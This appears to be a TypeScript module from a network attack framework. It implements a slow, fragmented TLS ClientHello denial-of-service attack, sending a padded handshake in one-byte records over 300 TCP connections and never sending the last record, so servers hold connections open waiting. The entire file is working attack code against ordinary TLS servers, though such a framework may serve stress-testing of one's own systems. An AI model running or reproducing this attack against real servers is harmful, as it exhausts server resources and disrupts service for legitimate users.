// A ClientHello in records of one byte that never comes to its end.

import type { Attack } from '../attack.ts'
import { EXTENSIONS, madeClientHello } from '../wire/client-hello.ts'
import { attackConnections } from '../wire/connections.ts'

/** Each byte with the header of a record. */
const RECORD_BYTES = 6

export const attack: Attack = {
  reference: 'fragmented ClientHello',
  does: 'sends a ClientHello in records of one byte, all but the last, on 300 connections',
  who: ['unknown'],
  answers: [],
  run: (target, signal) => {
    const hello = madeClientHello(
      [EXTENSIONS.serverName(target.host), EXTENSIONS.sessionTicket(Buffer.alloc(2_000))],
      1,
    )
    const cut = hello.subarray(0, -RECORD_BYTES)
    return attackConnections(target, signal, { connections: 300, transport: 'tcp' }, (wire) => {
      let at = 0
      const timer = setInterval(() => wire.more(), 20)
      wire.socket.once('close', () => clearInterval(timer))
      let isTurn = true
      return {
        next() {
          isTurn = !isTurn
          if (isTurn) return undefined
          const from = at
          at += RECORD_BYTES * 20
          return from < cut.length ? cut.subarray(from, at) : undefined
        },
      }
    })
  },
}
